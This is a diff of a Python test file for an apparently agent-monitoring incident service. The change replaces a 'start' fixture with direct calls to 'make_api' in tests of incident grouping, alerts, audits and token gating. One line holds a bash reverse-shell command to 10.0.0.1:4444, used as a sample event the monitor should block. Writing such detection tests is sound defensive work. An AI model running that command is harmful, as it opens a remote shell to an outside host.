@@ -12,9 +12,6 @@ REVERSE = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"  # block / critical / command
 TOKEN = "admin-secret-token"
 
 
-@pytest.fixture
-def start(make_api):
-    return make_api
 
 
 def tool(command=PIPE, *, agent="a1", session="s1", ws="/w", **kw):
@@ -35,8 +32,8 @@ async def alerts(api, **body):
     return await api.data("POST", "/alerts/list", body)
 
 
-async def test_grouping_severity_rise_and_idempotent_repost(start):
-    api = await start()
+async def test_grouping_severity_rise_and_idempotent_repost(make_api):
+    api = await make_api()
     items = await ingest(api, tool(at=1_780_000_000_000), tool(at=1_780_000_001_000),
                          tool("ls -la"))  # the allow event makes no incident
     listing = await incidents(api)
@@ -80,8 +77,8 @@ async def test_grouping_severity_rise_and_idempotent_repost(start):
     assert alert["occurrenceCount"] == 4
 
 
-async def test_resolved_incident_reopens_and_list_filters_and_pins(start):
-    api = await start()
+async def test_resolved_incident_reopens_and_list_filters_and_pins(make_api):
+    api = await make_api()
     await ingest(api, tool(session="s1"), tool(session="s2"), tool(REVERSE, agent="b", session="s3", ws="/v"))
     listing = await incidents(api)
     by_session = {i["sessionId"]: i for i in listing["items"]}
@@ -113,8 +110,8 @@ async def test_resolved_incident_reopens_and_list_filters_and_pins(start):
     assert len(limited["items"]) == 1 and limited["total"] == 3
 
 
-async def test_update_syncs_incident_alert_and_audits(start):
-    api = await start()
+async def test_update_syncs_incident_alert_and_audits(make_api):
+    api = await make_api()
     await ingest(api, tool())
     incident = (await incidents(api))["items"][0]
     iid = incident["incidentId"]
@@ -149,8 +146,8 @@ async def test_update_syncs_incident_alert_and_audits(start):
     assert status == 404 and body == {"statusCode": 404, "message": "incident not found", "error": "Not Found"}
 
 
-async def test_agent_and_critical_block_alerts(start):
-    api = await start()
+async def test_agent_and_critical_block_alerts(make_api):
+    api = await make_api()
     await ingest(api, *(tool(session=f"s{i}") for i in range(3)))
     agent_alert = (await alerts(api, kind="agent"))["items"]
     assert len(agent_alert) == 1
@@ -170,8 +167,8 @@ async def test_agent_and_critical_block_alerts(start):
     assert agent_alert["status"] == "open" and agent_alert["severity"] == "critical"
 
 
-async def test_management_token_and_restart(start, tmp_path, store_database):
-    api = await start(admin_token=TOKEN, database=store_database, data_dir=tmp_path / "d")
+async def test_management_token_and_restart(make_api, tmp_path, store_database):
+    api = await make_api(admin_token=TOKEN, database=store_database, data_dir=tmp_path / "d")
     await ingest(api, tool(), tool(session="s2"))
     iid = next(i["incidentId"] for i in (await incidents(api))["items"] if i["sessionId"] == "s1")
     status, body = await api.put(f"/incidents/{iid}", {"status": "resolved"})
@@ -184,7 +181,7 @@ async def test_management_token_and_restart(start, tmp_path, store_database):
     assert (await incidents(api))["total"] == 2  # reads are never gated
 
     await api.services.stop()  # flushes books to the store
-    again = await start(admin_token=TOKEN, database=store_database, data_dir=tmp_path / "d")
+    again = await make_api(admin_token=TOKEN, database=store_database, data_dir=tmp_path / "d")
     restored = (await incidents(again, incidentId=iid))["items"][0]
     assert (restored["status"], restored["owner"], restored["note"]) == ("acknowledged", "bob", "looking")
     assert restored["eventCount"] == 1 and restored["acknowledgedAt"] == updated["acknowledgedAt"]
